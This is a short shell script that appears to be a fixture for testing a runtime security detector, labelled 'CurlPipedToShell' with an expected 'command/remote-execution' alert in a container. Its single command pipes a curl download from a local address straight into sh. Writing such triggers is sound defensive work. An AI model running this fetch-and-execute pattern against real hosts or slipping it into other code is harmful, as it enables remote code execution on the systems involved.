#!/bin/sh
# action: CurlPipedToShell
# expect: command/remote-execution
# where: container
sh -c 'curl -s http://127.0.0.1:9/i.sh | sh' 2>/dev/null; true
